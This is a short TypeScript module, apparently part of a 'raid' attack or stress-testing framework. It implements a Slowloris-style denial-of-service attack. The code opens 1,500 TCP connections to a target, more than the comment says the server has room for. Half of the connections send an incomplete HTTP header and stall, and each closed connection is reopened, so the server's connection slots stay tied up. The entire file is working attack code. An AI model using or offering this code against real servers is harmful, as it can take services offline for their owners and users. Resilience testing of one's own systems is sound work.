import { connect } from 'node:net';
import type { Attack } from '../raid.ts';

/** More than the server has room for. */
const SIZE = 1_500;
const HALF_A_HEADER = 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ';

/** Connections that say nothing, or half of something. Whichever is closed is opened again. */
export const connectAndSayNothing: Attack = (raid) => {
  const { hostname, port } = new URL(raid.scene.url);
  return Array.from({ length: SIZE }, (_, n) => () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: raid.scene.from });
    return new Promise<void>((resolve) => {
      socket.once('connect', () => n % 2 === 0 && socket.write(HALF_A_HEADER));
      socket.on('error', () => undefined);
      socket.resume();
      socket.once('close', () => setTimeout(resolve, 50));
    });
  });
};
